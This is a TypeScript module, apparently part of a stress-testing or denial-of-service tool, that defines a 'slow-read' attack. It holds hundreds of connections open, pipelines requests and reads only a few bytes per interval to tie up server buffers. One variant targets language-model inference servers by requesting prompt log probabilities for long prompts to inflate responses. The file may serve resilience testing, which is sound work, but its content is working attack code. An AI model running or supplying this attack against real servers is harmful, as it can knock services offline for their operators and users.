import { z } from 'zod';
import { attackOf, type RequestTarget } from './attack.ts';
import { attackFault } from './attacker/attack-fault.ts';
import { holdingOpening, holdingShape, modelShape } from './script/opening.ts';
import { jsonRequest, requestHead } from './script/request-text.ts';

/**
 * Asks properly and reads hardly anything, so that the answer stays in the server's buffers and its connection stays busy.
 *
 * The receive window is the kernel's default, 64 KiB on Linux: Node has no option for a smaller one (`SO_RCVBUF`), which
 * slowhttptest does set. What makes up for it are large answers: the attack is felt as soon as they are larger than the kernels' buffers on
 * the way, some 150 KiB to 4 MB on Linux, where a sender's grows, and up to 10 MB through a proxy. So it asks `requests` times on
 * each connection; or, of a service with a language model, for the log probabilities of a prompt (`prompt_logprobs`: vLLM, SGLang), which are some
 * 1.4 KB a token.
 *
 * Behind TLS Node takes 64 KiB at a time, so the attacker reads as much more rarely.
 *
 * An end that waits behind bytes that were not read (FIN) is seen where the server is on this machine; a reset always. Both on Linux,
 * in the kernel's table of connections.
 */
export const attack = attackOf({
  kind: 'slow-read',
  summary: 'Asks for answers and reads a few bytes of them every interval.',
  defaultForMs: 15_000,
  needsModel: true,
  parameters: z.object({
    ...holdingShape({ connections: 500, perSecond: 200, path: '/' }),
    intervalMs: z.number().min(10).max(600_000).default(1000).describe('between two reads'),
    readBytes: z.int().min(1).max(65_536).default(5).describe('bytes of each read'),
    request: z
      .enum(['get', 'prompt-logprobs'])
      .default('get')
      .describe('what is asked: GET path, or a chat completion whose answer has the log probabilities of its prompt'),
    ...modelShape(),
    promptTokens: z.int().min(1).max(200_000).default(8192).describe('length of that prompt'),
    requests: z.int().min(1).max(1000).default(1).describe('requests sent at once on each connection'),
  }),
  script: (parameters, target) => {
    const { path, requests, readBytes, intervalMs: againMs, promptTokens } = parameters;
    const one =
      parameters.request === 'get' ? `${requestHead(target, 'GET', path)}\r\n` : scoring(target, promptTokens);
    const request = one.repeat(requests);
    return {
      opening: holdingOpening(parameters),
      read: readBytes,
      answers: null,
      step: (_connection, turn) => (turn === 0 ? { write: request, againMs } : { againMs }),
    };
  },
});

/** Four characters are about a token. */
function scoring(target: RequestTarget, promptTokens: number): string {
  const content = 'and '.repeat(promptTokens);
  const body = { model: target.model, messages: [{ role: 'user', content }], max_tokens: 1, prompt_logprobs: 20 };
  return jsonRequest(target, '/v1/chat/completions', JSON.stringify(body));
}

/** The same in a scenario. */
export const fault = attackFault(attack);
